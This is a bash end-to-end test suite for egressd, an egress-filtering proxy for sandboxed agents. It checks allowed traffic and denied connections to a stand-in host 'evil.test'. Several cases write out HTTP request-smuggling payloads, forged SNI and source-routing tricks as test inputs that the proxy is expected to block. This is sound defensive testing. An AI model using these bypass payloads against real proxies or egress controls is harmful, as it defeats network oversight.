#!/bin/bash
# SPDX-License-Identifier: GPL-2.0 OR BSD-3-Clause
#
# End-to-end cases for egressd on the hermetic namespace bed (lib.sh,
# README.md). Each case proves one behaviour or defeats one attack with real
# clients inside the enforced cgroup and prints
#   ok - NAME | not ok - NAME: why | skip - NAME: why
# The last line is "e2e: N passed, N failed, N skipped"; the exit status is
# non-zero on any failure, and under CI=true also on any skip.
#
# usage: tests/e2e/run.sh [-l] [PATTERN...]   (run cases whose name contains
#                                              any PATTERN; -l lists them)
# env:   EGRESSD=path (default ./egressd of this repo)
#        E2E_RUNNER=direct  run the clients WITHOUT egressd: the allow cases
#                           must pass and the deny cases must fail
#        E2E_KEEP=1         keep the bed's temp dir (logs) after the run
#        E2E_TIMEOUT=secs   per agent run (default 20)

set -uo pipefail

# shellcheck source=tests/e2e/lib.sh
. "$(cd "$(dirname "$0")" && pwd)/lib.sh"

EGRESSD=${EGRESSD:-$E2E_REPO/egressd}
E2E_RUNNER=${E2E_RUNNER:-egressd}
# Client stderr into stdout (egressd's own stderr goes to $CASE_STDERR).
MERGE=(sh -c 'exec "$@" 2>&1' sh)
# Same, then a last line "@ms N": the client's own run time, measured
# inside the agent so egressd's start-up is not counted.
TIMED=(sh -c 's=$(date +%s%N); "$@" 2>&1; rc=$?;
	echo "@ms $(( ($(date +%s%N) - s) / 1000000 ))"; exit $rc' sh)
FAST_MS=3000

CASES=(
	curl_https_allowed
	curl_http_allowed
	http_upgrade_watch
	http_stream_smuggling
	dns_memory_tab_request_line
	client_closes_before_accept
	curl_ipv6_allowed
	node_fetch_https_allowed
	python_urllib_https_allowed
	python_urllib_http_allowed
	curl_evil_denied
	node_evil_denied
	python_evil_denied
	forged_sni
	bare_ip_no_sni
	ipv6_evil_denied
	ipv4_mapped_evil_denied
	tcp_fastopen_redirected
	io_uring_connect_redirected
	loopback_service_unreachable
	getpeername_original
	origin_2000
	udp_denied
	dns_resolves_inside
	dns_any_server
	dns_ipv6_server
	dns_clients_resolve
	dns_unconnected_and_sendmmsg
	source_route_refused
	multicast_join_refused
	inbound_from_network
	events_lost_reported
	events_lost_in_log
	conn_handoff_retries
	bound_device_refused
	dns_tunnel_blocked
	dns_nxdomain_not_forwarded
	dns_rebinding_refused
	dns_tcp_slots_per_tenant
	dns_audit_records
	ssh_style_rule
	sock_create_refused
	deny_rule_wins
	wildcard_not_apex
	exit_status_passthrough
	run_refuses_socket_stdio
	fd_limits
	refuses_root_agent
	bad_policy_error
	systemd_units
	intercept_curl_node_python_git
	intercept_injects_credential
	inject_over_wildcard_credential
	intercept_method_path_rules
	intercept_body_method_override
	intercept_unread_body_closes
	intercept_audit_body_override_credential
	intercept_domain_fronting
	intercept_canonical_host
	intercept_upstream_unverified
	intercept_smuggling
	gateway_mode
	not_intercepted_passthrough
	kernel_relay
	cleanup_after_kill
	cleanup_pid_reuse
	run_from_delegated_cgroup
	run_writable_ancestor
	run_delegated_cgroupns
	run_local_scope
	scope_separates_agents
	run_warns_host_sockets
	run_log_path_safety
	run_terminal
	daemon_enforces_bindings
	daemon_netns_per_cgroup
	daemon_two_tenants_reload
	daemon_reload_removes_attach_point
	daemon_delegated_subtree
	daemon_walk_deep_tree
	daemon_cgroup_flood
	daemon_attach_point_recreated
	daemon_status_escapes_names
	daemon_tenant_quota
	daemon_restart_forgets_bindings
	daemon_kernel_events_flood
	egressctl_checks_server
	daemon_reload_connected_udp
	daemon_intercepts
	daemon_pod_netns
	daemon_observability
	daemon_audit_rotation
	daemon_audit_stdout
	daemon_sd_notify
	daemon_socket_before_attach
	daemon_audit_to_enforce
	daemon_reload_timeouts_limits
	daemon_kernel_relay
	geoip_country_and_asn
	audit_suggest_enforce
	nothing_left_behind
)

# ---------------------------------------------------------------------
# Case plumbing. A case runs in a subshell; fail/skip end it.

fail() {
	printf '%s' "$*" >"$WHYF"
	exit 1
}
skip() {
	printf '%s' "$*" >"$WHYF"
	exit 77
}
note() { printf '%s\n' "$*" >>"$NOTEF"; }
need_egressd() {
	[ "$E2E_RUNNER" = direct ] && skip "needs egressd (E2E_RUNNER=direct)"
	return 0
}
# Split TIMED output: $BODY (without the @ms line) and $MS.
timed_split() {
	MS=$(sed -n 's/^@ms //p' <<<"$1" | tail -n 1)
	BODY=$(grep -v '^@ms ' <<<"$1")
	MS=${MS:-99999}
}
oneline() { tr '\n' ' ' <<<"$1" | cut -c1-200; }

# deny_fast LABEL RC OUTPUT: the attempt failed, quickly, and did not get an
# answer from evil.test. Fails the case otherwise.
deny_fast() {
	local label=$1 rc=$2
	timed_split "$3"
	[ "$rc" -ne 0 ] || fail "$label: succeeded: $(oneline "$BODY")"
	[ "$rc" -ne 124 ] && [ "$rc" -ne 137 ] || fail "$label: hung (timeout)"
	[ "$MS" -lt $FAST_MS ] || fail "$label: took ${MS} ms (not a fast denial)"
	grep -q 'hello from evil' <<<"$BODY" && fail "$label: evil.test answered"
	note "$label: denied in ${MS} ms: $(oneline "$BODY")"
}
# evil_untouched: evil.test's server logged nothing since log_mark.
evil_untouched() {
	sleep 0.2
	local n
	n=$(log_new evil.test)
	[ -z "$n" ] || fail "evil.test was contacted ($1): $(oneline "$n")"
}

# ---------------------------------------------------------------------
# Allowed traffic through the proxy, real clients.

# Bulk connections go socket to socket in the kernel (sockmap) once they
# have relayed --kernel-relay-after bytes: downloads arrive intact over TLS
# and plain HTTP, an upload ended by the client's FIN reaches the server
# whole before the server's answer comes back whole, the audit record says
# relay=kernel with the bytes the kernel moved; a client that half-closed
# before the hand-over and --kernel-relay-after 0 (the default) stay in the
# proxy, intact.
case_kernel_relay() {
	need_egressd
	local out want n
	want=$(sha256sum "$E2E_DIR/www/dl/16m" | cut -d' ' -f1)
	out=$(egr --allow allowed.test --kernel-relay-after 1048576 -- sh -c '
		curl -sS --max-time 20 --cacert "$1" https://allowed.test/dl/16m |
			sha256sum
		curl -sS --max-time 20 http://allowed.test/dl/16m | sha256sum' \
		sh "$E2E_CA") || fail "downloads: $(oneline "$out")"
	[ "$(awk '{print $1}' <<<"$out" | sort | uniq -c | awk '{print $1, $2}')" = "2 $want" ] ||
		fail "download sha256: $(oneline "$out"), want $want twice"
	# TLS goes to the kernel; plain HTTP stays in the proxy, which
	# checks each of its requests' Host (httpstream.h)
	n=$("$E2E_PY" -c 'import json,sys
recs = [json.loads(l) for l in open(sys.argv[1])]
big = [r for r in recs if r.get("bytes_down", 0) > 16777216 and r.get("verdict") == "allow"]
print(" ".join(sorted(("sni" if r.get("sni") else "host") + "=" + r.get("relay", "proxy")
                      for r in big)))' "$CASE_AUDIT")
	[ "$n" = "host=proxy sni=kernel" ] ||
		fail "downloads by relay: $n, want host=proxy sni=kernel: $(head -c 800 "$CASE_AUDIT")"

	: >"$CASE_AUDIT"
	out=$(egr --allow "$ALLOWED4:9100" --kernel-relay-after 1 -- sh -c '
		"$@" --up 8388608 --down 0 &&
		"$@" --up 4194304 --down 8388608 &&
		"$@" --up 0 --down 8388608' sh "${CLIENT[@]}" hashxfer "$ALLOWED4" 9100) ||
		fail "hashxfer: $(oneline "$out")"
	[ "$(grep -c '"ok": true' <<<"$out")" = 3 ] || fail "hashxfer: $(oneline "$out")"
	n=$(grep -c '"relay": *"kernel"' "$CASE_AUDIT")
	# the third client sent its FIN before the hand-over: stays in the proxy
	[ "$n" = 2 ] || fail "$n of 3 hash transfers went through the kernel relay (want 2): $(head -c 1200 "$CASE_AUDIT")"

	: >"$CASE_AUDIT"
	out=$(egr --allow "$ALLOWED4:9100" --kernel-relay-after 0 -- \
		"${CLIENT[@]}" hashxfer "$ALLOWED4" 9100 --up 4194304 --down 8388608) ||
		fail "hashxfer without the kernel relay: $(oneline "$out")"
	! grep -q '"relay"' "$CASE_AUDIT" || fail "--kernel-relay-after 0 still used it"

	# off unless asked for
	: >"$CASE_AUDIT"
	out=$(egr --allow allowed.test -- curl -sS --max-time 20 http://allowed.test/dl/16m |
		sha256sum) || fail "default download: $(oneline "$out")"
	[ "${out%% *}" = "$want" ] || fail "default download sha256 ${out%% *}"
	! grep -q '"relay"' "$CASE_AUDIT" || fail "the kernel relay is used by default"
}

case_curl_https_allowed() {
	local out
	log_mark allowed.test
	out=$(egr --allow allowed.test -- "${MERGE[@]}" curl -sS --max-time 10 \
		--cacert "$E2E_CA" https://allowed.test/) ||
		fail "curl exit $?: $(oneline "$out")"
	[ "$out" = "hello from allowed.test" ] || fail "reply: $(oneline "$out")"
	log_new allowed.test | grep -q '"sni": "allowed.test"' ||
		fail "allowed.test's server saw no TLS request with SNI allowed.test"
}

# A client that writes and closes before the proxy has accepted the
# connection (fire-and-forget senders): its origin must still be found.
# Plain HTTP allowed by name is followed request by request; after an
# Upgrade request the bytes go raw. allowed.test's /ka ignores the upgrade
# and reads on, as many servers do: a later request for another host on
# that connection (a shared address would route it) must not reach it,
# also where the kernel relay would have taken the connection over by then
# (--kernel-relay-after 1).
case_http_upgrade_watch() {
	local out kr
	for kr in 0 1; do
		: >"$CASE_AUDIT"
		log_mark allowed.test
		out=$(egr --allow allowed.test --kernel-relay-after $kr -- "${CLIENT[@]}" raw \
			$ALLOWED4 80 --send2-after 500 \
			--send $'GET /ka HTTP/1.1\r\nHost: allowed.test\r\nConnection: Upgrade\r\nUpgrade: x\r\n\r\n' \
			--send2 $'GET /ka HTTP/1.1\r\nHost: evil.test\r\n\r\n')
		note "kernel relay after $kr: $(oneline "$out")"
		grep -q 'hello from allowed' <<<"$out" ||
			fail "the upgrade request was not answered: $(oneline "$out")"
		sleep 0.2
		if log_new allowed.test | grep -q '"host": "evil.test"'; then
			fail "--kernel-relay-after $kr: the request for evil.test reached the server"
		fi
		[ "$E2E_RUNNER" = direct ] && continue
		grep -q '"verdict":"deny".*after an Upgrade' "$CASE_AUDIT" ||
			fail "--kernel-relay-after $kr: no deny record: $(head -c 600 "$CASE_AUDIT")"
	done
}

# Plain HTTP allowed by name, to allowed.test's front end for several
# sites on one address (server.py --vhost: it frames requests as nginx
# and HAProxy do, a line ending at LF, and answers each by its own Host).
# Every way of getting a second request past egressd's reading of the
# stream, each of which reached evil.test's site on the build before.
case_http_stream_smuggling() {
	local out attack
	log_mark allowed.test
	out=$(egr --allow allowed.test:8081 -- "${CLIENT[@]}" raw $ALLOWED4 8081 --timeout 2 \
		--send $'GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n')
	grep -q 'hello from allowed.test' <<<"$out" ||
		fail "the front end did not answer through egressd: $(oneline "$out")"
	for attack in chunk-ext-lf chunk-blank-lf upgrade-same-read upgrade-then-h2 \
		upgrade-then-http09 upgrade-then-http09-split upgrade-then-http09-cr; do
		case $attack in
		chunk-ext-lf) # http-parser reads the extension on to the next CR
			out=$(egr --allow allowed.test:8081 -- "${CLIENT[@]}" raw $ALLOWED4 8081 --timeout 2 \
				--send $'POST / HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n0;x\n\nGET / HTTP/1.1\nHost: evil.test\n\n\r\n\r\n') ;;
		chunk-blank-lf)
			out=$(egr --allow allowed.test:8081 -- "${CLIENT[@]}" raw $ALLOWED4 8081 --timeout 2 \
				--send $'POST / HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n0 \n\nGET / HTTP/1.1\nHost: evil.test\n\n\r\n\r\n') ;;
		upgrade-same-read) # the bytes after an Upgrade head in the same read
			out=$(egr --allow allowed.test:8081 -- "${CLIENT[@]}" raw $ALLOWED4 8081 --send2-after 200 \
				--send $'GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n' \
				--send2 $'GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: Upgrade\r\nUpgrade: x\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\n\r\n') ;;
		upgrade-then-h2) # an ignored upgrade, then HTTP/2 with prior knowledge
			out=$(egr --allow allowed.test:8081 -- "${CLIENT[@]}" raw $ALLOWED4 8081 --send2-after 200 \
				--send $'GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: Upgrade\r\nUpgrade: x\r\n\r\n' \
				--send2 $'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n') ;;
		upgrade-then-http09) # an ignored upgrade, then an HTTP/0.9 line
			out=$(egr --allow allowed.test:8081 -- "${CLIENT[@]}" raw $ALLOWED4 8081 --send2-after 200 \
				--send $'GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: Upgrade\r\nUpgrade: x\r\n\r\n' \
				--send2 $'GET http://evil.test/\r\n') ;;
		upgrade-then-http09-split) # the same, "GET" across two reads
			out=$(egr --allow allowed.test:8081 -- "${CLIENT[@]}" raw $ALLOWED4 8081 --send2-after 200 \
				--send $'GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: Upgrade\r\nUpgrade: x\r\n\r\n\r\nG' \
				--send2 $'ET http://evil.test/\r\n') ;;
		upgrade-then-http09-cr) # a CR before it, which nginx skips like an LF
			out=$(egr --allow allowed.test:8081 -- "${CLIENT[@]}" raw $ALLOWED4 8081 --send2-after 200 \
				--send $'GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: Upgrade\r\nUpgrade: x\r\n\r\n\r' \
				--send2 $'\rGET http://evil.test/\r\n') ;;
		esac
		note "$attack: $(oneline "$out")"
	done
	sleep 0.3
	note "front end: $(oneline "$(log_new allowed.test | grep -o '"event": "[a-z_0-9]*"\|"host": "[^"]*"' | tr '\n' ' ')")"
	# grep -c: under pipefail grep -q's early exit could fail the pipe
	# and hide a match
	[ "$(log_new allowed.test | grep -c '"host": "evil.test"')" = 0 ] ||
		fail "a request for evil.test reached the front end on a connection allowed for allowed.test"
	[ "$(log_new allowed.test | grep -c '"event": "h2_preface"')" = 0 ] ||
		fail "the HTTP/2 preface reached the front end after an Upgrade request"
	[ "$E2E_RUNNER" = direct ] && return 0
	[ "$(grep -c '"verdict":"deny"' "$CASE_AUDIT")" -ge 7 ] ||
		fail "expected a deny record for each attack: $(head -c 1500 "$CASE_AUDIT")"
}

# The DNS answer memory admits a connection to an address it gave out for
# an allowed name only if the client's bytes name nothing. A request line
# with a tab between its parts (which HAProxy and Python's http.server take)
# names a host all the same, as does one behind a PROXY protocol header
# (a server listening with it reads the request after it), and an HTTP/0.9
# line with no version at all (nginx and Apache serve "GET http://host/"
# for that host).
case_dns_memory_tab_request_line() {
	local out
	log_mark other.test
	out=$(egr --allow other.test -- bash -c 'getent hosts other.test >/dev/null || exit 9
		for line in "GET / HTTP/1.1" "GET	/ HTTP/1.1" "GET /	HTTP/1.1" "GET / http/1.1" \
			"PROXY TCP4 198.51.100.2 192.0.2.20 40000 80"$'"'"'\r\n'"'"'"GET / HTTP/1.1" \
			"GET http://evil.test/"; do
			"$@" raw '"$OTHER4"' 80 --timeout 3 \
				--send "$line"$'"'"'\r\nHost: evil.test\r\nConnection: close\r\n\r\n'"'"'
		done' bash "${CLIENT[@]}")
	note "agent: $(oneline "$out")"
	sleep 0.3
	[ "$(log_new other.test | grep -c 'evil\.test')" = 0 ] ||
		fail "a request naming evil.test reached other.test's address: $(oneline "$(log_new other.test)")"
	[ "$E2E_RUNNER" = direct ] && return 0
	[ "$(grep -c '"verdict":"deny"' "$CASE_AUDIT")" -ge 6 ] ||
		fail "expected six deny records: $(head -c 1500 "$CASE_AUDIT")"
}

case_client_closes_before_accept() {
	local out n
	log_mark allowed.test
	out=$(egr --allow allowed.test -- sh -c '
		for i in $(seq 1 20); do
			"$@" || exit 1
		done' sh "${CLIENT[@]}" raw "$ALLOWED4" 80 --host allowed.test \
		--no-read) || fail "client failed: $(oneline "$out")"
	sleep 0.5
	n=$(log_new allowed.test | grep -c '"event": "request"')
	[ "$n" -eq 20 ] || fail "allowed.test got $n of 20 requests; audit: $(grep -c no_origin "$CASE_AUDIT") no_origin"
}

case_curl_http_allowed() {
	local out
	log_mark allowed.test
	out=$(egr --allow allowed.test -- "${MERGE[@]}" curl -sS --max-time 10 \
		http://allowed.test/) || fail "curl exit $?: $(oneline "$out")"
	[ "$out" = "hello from allowed.test" ] || fail "reply: $(oneline "$out")"
	log_new allowed.test | grep -q '"host": "allowed.test"' ||
		fail "allowed.test's server saw no request with Host allowed.test"
}

case_curl_ipv6_allowed() {
	local out
	out=$(egr --allow allowed.test -- "${MERGE[@]}" curl -6 -sS \
		--max-time 10 --cacert "$E2E_CA" https://allowed.test/) ||
		fail "curl -6 exit $?: $(oneline "$out")"
	[ "$out" = "hello from allowed.test" ] || fail "reply: $(oneline "$out")"
}

NODE_FETCH='const u = process.argv[1];
fetch(u, { signal: AbortSignal.timeout(10000) }).then(async (r) => {
	const t = await r.text();
	if (!r.ok) { console.log("HTTP " + r.status); process.exit(1); }
	process.stdout.write(t);
}).catch((e) => {
	const c = e.cause || e;
	console.log("error: " + (c.code || "") + " " + (c.message || c));
	process.exit(1);
});'

case_node_fetch_https_allowed() {
	command -v node >/dev/null || skip "node not installed"
	local out
	log_mark allowed.test
	# A proxy in the environment that would fail if it were used: Node's
	# fetch ignores it, which is why the redirect is in the kernel.
	out=$(egr --allow allowed.test -- "${MERGE[@]}" \
		env HTTPS_PROXY=http://127.0.0.1:9 HTTP_PROXY=http://127.0.0.1:9 \
		node -e "$NODE_FETCH" https://allowed.test/) ||
		fail "node exit $?: $(oneline "$out")"
	[ "$out" = "hello from allowed.test" ] || fail "reply: $(oneline "$out")"
	log_new allowed.test | grep -q '"sni": "allowed.test"' ||
		fail "allowed.test's server saw no TLS request"
}

py_http_allowed() {
	local out
	out=$(egr --allow allowed.test -- "${CLIENT[@]}" http "$1") ||
		fail "urllib failed: $(oneline "$out")"
	[ "$(jget body <<<"$out")" = "hello from allowed.test" ] ||
		fail "reply: $(oneline "$out")"
}
case_python_urllib_https_allowed() { py_http_allowed https://allowed.test/; }
case_python_urllib_http_allowed() { py_http_allowed http://allowed.test/; }

# ---------------------------------------------------------------------
# Denied destinations: fast, and the server never sees a packet.

case_curl_evil_denied() {
	local out rc url
	log_mark evil.test
	for url in https://evil.test/ http://evil.test/; do
		out=$(egr --allow allowed.test -- "${TIMED[@]}" curl -sS -f \
			--max-time 10 --cacert "$E2E_CA" "$url")
		rc=$?
		deny_fast "curl $url" $rc "$out"
	done
	evil_untouched curl
}

case_node_evil_denied() {
	command -v node >/dev/null || skip "node not installed"
	local out rc url
	log_mark evil.test
	for url in https://evil.test/ http://evil.test/; do
		out=$(egr --allow allowed.test -- "${TIMED[@]}" \
			node -e "$NODE_FETCH" "$url")
		rc=$?
		deny_fast "node fetch $url" $rc "$out"
	done
	evil_untouched node
}

case_python_evil_denied() {
	local out rc url
	log_mark evil.test
	for url in https://evil.test/ http://evil.test/; do
		out=$(egr --allow allowed.test -- "${TIMED[@]}" \
			"${CLIENT[@]}" http "$url")
		rc=$?
		deny_fast "urllib $url" $rc "$out"
	done
	evil_untouched python
}

# Connect to evil's address but claim to be allowed.test (SNI or Host):
# the proxy must not trust the agent's address for a name rule.
case_forged_sni() {
	local out
	log_mark evil.test
	out=$(egr --allow allowed.test -- "${MERGE[@]}" timeout 8 \
		openssl s_client -connect $EVIL4:443 -servername allowed.test \
		-CAfile "$E2E_CA" -brief)
	note "s_client: $(oneline "$out")"
	evil_untouched "openssl s_client SNI allowed.test"
	out=$(egr --allow allowed.test -- "${CLIENT[@]}" raw $EVIL4 443 \
		--tls --sni allowed.test --host allowed.test)
	grep -q 'hello from evil' <<<"$out" && fail "evil.test answered: $out"
	note "python TLS: $(oneline "$out")"
	evil_untouched "python SNI allowed.test"
	out=$(egr --allow allowed.test -- "${CLIENT[@]}" raw $EVIL4 80 \
		--host allowed.test)
	grep -q 'hello from evil' <<<"$out" && fail "evil.test answered: $out"
	note "python HTTP Host allowed.test: $(oneline "$out")"
	evil_untouched "python Host allowed.test"
}

case_bare_ip_no_sni() {
	local out
	log_mark allowed.test
	out=$(egr --allow allowed.test -- "${CLIENT[@]}" raw $ALLOWED4 443 \
		--tls --host allowed.test) &&
		fail "TLS without SNI went through: $(oneline "$out")"
	[ "$(jget addr <<<"$out")" = $ALLOWED4 ] ||
		fail "the client did not run: $(oneline "$out")"
	note "$(oneline "$out")"
	sleep 0.2
	[ -z "$(log_new allowed.test)" ] ||
		fail "allowed.test's server was contacted: $(oneline "$(log_new allowed.test)")"
}

case_ipv6_evil_denied() {
	local out rc
	log_mark evil.test
	out=$(egr --allow allowed.test -- "${TIMED[@]}" curl -6 -sS -f \
		--max-time 10 --cacert "$E2E_CA" https://evil.test/)
	rc=$?
	deny_fast "curl -6 https://evil.test" $rc "$out"
	out=$(egr --allow allowed.test -- "${TIMED[@]}" "${CLIENT[@]}" raw \
		$EVIL6 443 --tls --sni evil.test --host evil.test)
	rc=$?
	deny_fast "python [$EVIL6]:443" $rc "$out"
	out=$(egr --allow allowed.test -- "${TIMED[@]}" "${CLIENT[@]}" raw \
		$EVIL6 80 --host evil.test)
	rc=$?
	deny_fast "python [$EVIL6]:80" $rc "$out"
	evil_untouched IPv6
}

# The kernel routes an IPv4-mapped destination on an AF_INET6 socket to the
# IPv4 path without running connect4: connect6 must handle it.
case_ipv4_mapped_evil_denied() {
	local out name
	log_mark evil.test
	for name in evil.test allowed.test; do
		out=$(egr --allow allowed.test -- "${CLIENT[@]}" raw \
			::ffff:$EVIL4 443 --tls --sni $name --host $name)
		note "::ffff:$EVIL4:443 SNI $name: $(oneline "$out")"
		grep -q 'hello from evil' <<<"$out" && fail "evil answered: $out"
		out=$(egr --allow allowed.test -- "${CLIENT[@]}" raw \
			::ffff:$EVIL4 80 --host $name)
		note "::ffff:$EVIL4:80 Host $name: $(oneline "$out")"
		grep -q 'hello from evil' <<<"$out" && fail "evil answered: $out"
	done
	evil_untouched "IPv4-mapped"
}

# MSG_FASTOPEN connects inside sendto(); run twice so the second one uses
# the cookie and really carries the request in the SYN.
case_tcp_fastopen_redirected() {
	local out i
	for i in 1 2; do
		out=$(egr --allow allowed.test -- "${CLIENT[@]}" raw $ALLOWED4 80 \
			--fastopen --host allowed.test) ||
			fail "TFO to allowed.test failed: $(oneline "$out")"
		[ "$(jget body <<<"$out")" = "hello from allowed.test" ] ||
			fail "TFO reply: $(oneline "$out")"
	done
	log_mark evil.test
	for i in 1 2; do
		out=$(egr --allow allowed.test -- "${CLIENT[@]}" raw $EVIL4 80 \
			--fastopen --host evil.test)
		note "TFO to evil #$i: $(oneline "$out")"
		grep -q 'hello from evil' <<<"$out" && fail "evil answered: $out"
	done
	evil_untouched "TFO"
}

case_io_uring_connect_redirected() {
	local out
	out=$(egr --allow allowed.test -- "$E2E_DIR/bin/uring_connect" $ALLOWED4 \
		80 allowed.test) || fail "io_uring to allowed.test: $(oneline "$out")"
	grep -q 'hello from allowed.test' <<<"$out" ||
		fail "io_uring reply: $(oneline "$out")"
	log_mark evil.test
	out=$(egr --allow allowed.test -- "$E2E_DIR/bin/uring_connect" $EVIL4 80 evil.test)
	note "evil v4: $(oneline "$out")"
	out=$(egr --allow allowed.test -- "$E2E_DIR/bin/uring_connect" $EVIL6 80 evil.test)
	note "evil v6: $(oneline "$out")"
	evil_untouched "io_uring"
}

# A service on the runner's loopback (metadata proxy, docker socket
# forwarder, dev server) must not be reachable from the agent.
case_loopback_service_unreachable() {
	local out pid a
	ip netns exec "$NS_HOST" "$E2E_PY" "$E2E_DIR/bin/server.py" --name loopback \
		--addr 127.0.0.1 --addr ::1 --http 8099 \
		--log "$E2E_DIR/srv/loopback.log" \
		--ready "$E2E_DIR/run/loopback.ready" </dev/null \
		>>"$E2E_DIR/logs/servers.out" 2>&1 &
	pid=$!
	bed_track $pid
	bed_wait_file "$E2E_DIR/run/loopback.ready" 10 || fail "server did not start"
	for a in 127.0.0.1 ::1; do
		out=$(cd "$E2E_DIR" && in_host "${CLIENT[@]}" raw $a 8099 \
			--host localhost) || fail "outside the cgroup, $a failed: $out"
	done
	log_mark loopback
	for a in 127.0.0.1 ::1; do
		out=$(egr --allow allowed.test -- "${CLIENT[@]}" raw $a 8099 \
			--host localhost) && fail "inside, $a:8099 reachable: $(oneline "$out")"
		[ "$(jget errname <<<"$out")" = EPERM ] ||
			fail "inside, $a:8099: expected EPERM, got: $(oneline "$out")"
	done
	[ -z "$(log_new loopback)" ] || fail "loopback server was contacted"
	bed_stop_pid $pid
}

case_getpeername_original() {
	local out
	out=$(egr --allow allowed.test -- "${CLIENT[@]}" raw $ALLOWED4 80 \
		--host allowed.test) || fail "connect failed: $(oneline "$out")"
	[ "$(jget peer <<<"$out")" = "[\"$ALLOWED4\", 80]" ] ||
		fail "getpeername: $(jget peer <<<"$out")"
	[ "$(jget body <<<"$out")" = "hello from allowed.test" ] ||
		fail "reply: $(oneline "$out")"
	out=$(egr --allow allowed.test -- "${CLIENT[@]}" raw $ALLOWED6 80 \
		--host allowed.test) || fail "IPv6 connect failed: $(oneline "$out")"
	[ "$(jget peer <<<"$out")" = "[\"$ALLOWED6\", 80]" ] ||
		fail "IPv6 getpeername: $(jget peer <<<"$out")"
}

# 2,000 parallel connections from 8 processes, each to its own port on
# other.test (a CIDR rule, no name): every client must get its own port
# back (origins never mixed up), and the audit log must attribute each one
# to the right process and port.
case_origin_2000() {
	local res=$E2E_DIR/run/origin.jsonl t0 t1 check
	t0=$(now_ms)
	E2E_TIMEOUT=120 egr --allow $OTHER4 -- "${CLIENT[@]}" echo $OTHER4 \
		$ECHO_PORTS 8 --timeout 90 >"$res"
	t1=$(now_ms)
	note "2000 connections in $((t1 - t0)) ms"
	check=$("$E2E_PY" - "$res" "$CASE_AUDIT" "$E2E_RUNNER" "$OTHER4" <<'EOF'
import collections, json, sys
res, audit, runner, dst = sys.argv[1:5]
rows = [json.loads(l) for l in open(res) if l.strip()]
bad = [r for r in rows if r.get("got") != r.get("port")]
ports = {r.get("port") for r in rows}
if len(rows) != 2000 or len(ports) != 2000:
    print("clients reported %d results for %d ports" % (len(rows), len(ports)))
    sys.exit(1)
if bad:
    print("%d connections got the wrong answer, e.g. %s" % (len(bad), bad[:3]))
    sys.exit(1)
if runner == "direct":
    print("SKIP-AUDIT")
    sys.exit(0)
want = collections.Counter((r["pid"], r["port"]) for r in rows)
recs = []
for l in open(audit):
    try:
        o = json.loads(l)
    except ValueError:
        print("audit line is not JSON: %r" % l[:120])
        sys.exit(1)
    if o.get("dst") == dst and o.get("verdict") == "allow":
        recs.append(o)
got = collections.Counter((o.get("pid"), o.get("dst_port")) for o in recs)
if len(recs) != 2000 or got != want:
    missing = list((want - got).elements())[:3]
    extra = list((got - want).elements())[:3]
    print("audit: %d allow records to %s; missing %s extra %s"
          % (len(recs), dst, missing, extra))
    sys.exit(1)
print("ok")
EOF
	) || fail "$check"
	[ $((t1 - t0)) -lt 100000 ] || fail "took $((t1 - t0)) ms"
	[ "$check" = SKIP-AUDIT ] && skip "traffic ok; audit log needs egressd"
	return 0
}

case_udp_denied() {
	local out a p
	log_mark evil.test
	for a in "$EVIL4 443" "$EVIL4 123" "$EVIL4 443 --connect" \
		"$EVIL6 443" "$EVIL6 123 --connect"; do
		# shellcheck disable=SC2086
		out=$(egr --allow allowed.test -- "${CLIENT[@]}" udp $a) &&
			fail "UDP $a: sent: $(oneline "$out")"
		p=$(jget errname <<<"$out")
		[ "$p" = EPERM ] || fail "UDP $a: expected EPERM, got: $(oneline "$out")"
	done
	evil_untouched UDP
}

# IP source routing: an option (IP_OPTIONS with LSRR; IPV6_RTHDR, type 4
# segment routing or type 2; as a socket option or per message) makes the kernel send a redirected
# socket's packets to a first hop of the sender's choosing instead of the
# proxy. It needs no privilege, and the first hop's host sees the payload
# whatever it then does with the route. None of it may leave the runner:
# frames are sniffed on the internet side of its link.
case_source_route_refused() {
	local ready=$E2E_DIR/run/sniff-ready-$$ sniffed=$E2E_DIR/run/sniff-$$.out
	local out out6 pid i frames way
	rm -f "$ready"
	in_net "$E2E_PY" "$E2E_DIR/bin/client.py" sniff veth0 8 "$ready" >"$sniffed" &
	pid=$!
	for i in $(seq 50); do [ -e "$ready" ] && break; sleep 0.1; done
	[ -e "$ready" ] || { kill "$pid"; fail "the sniffer did not start"; }
	out=$(egr --allow allowed.test -- "${CLIENT[@]}" srcroute $EVIL4 $DNS4)
	out6=$(egr --allow allowed.test -- "${CLIENT[@]}" srcroute $EVIL6 $ALLOWED6)
	wait "$pid"
	note "IPv4: $(oneline "$out")"
	note "IPv6: $(oneline "$out6")"
	frames=$(jget frames <"$sniffed")
	[ "$frames" = 0 ] ||
		fail "${frames:-?} frame(s) with the marker left the runner: $(oneline "$out") $(oneline "$out6")"
	for way in udp-sockopt udp-cmsg tcp-sockopt udp-cmsg-rr; do
		[ "$("$E2E_PY" -c 'import json,sys; print(json.loads(sys.stdin.read().strip().splitlines()[-1])["ways"][sys.argv[1]])' "$way" <<<"$out")" = EPERM ] ||
			fail "$way was not refused with EPERM: $(oneline "$out")"
	done
	# type 2 needs the kernel's Mobile IPv6: without it the kernel
	# refuses the header itself (EINVAL)
	for way in udp6-sockopt udp6-cmsg udp6-srh tcp6-srh; do
		case $("$E2E_PY" -c 'import json,sys; print(json.loads(sys.stdin.read().strip().splitlines()[-1])["ways"][sys.argv[1]])' "$way" <<<"$out6") in
		EPERM | EINVAL) ;;
		*) fail "$way was not refused: $(oneline "$out6")" ;;
		esac
	done
	grep -q '"reason":"ip_options".*setsockopt IPV6_RTHDR' "$CASE_AUDIT" ||
		fail "no audit record of the refused IPv6 socket option: $(oneline "$(tail -3 "$CASE_AUDIT")")"
	grep -q '"reason":"ip_options".*setsockopt IP_OPTIONS' "$CASE_AUDIT" ||
		fail "no audit record of the refused IPv4 socket option: $(oneline "$(tail -3 "$CASE_AUDIT")")"
	# on a packet (a per-message option no hook sees): dropped on its way out
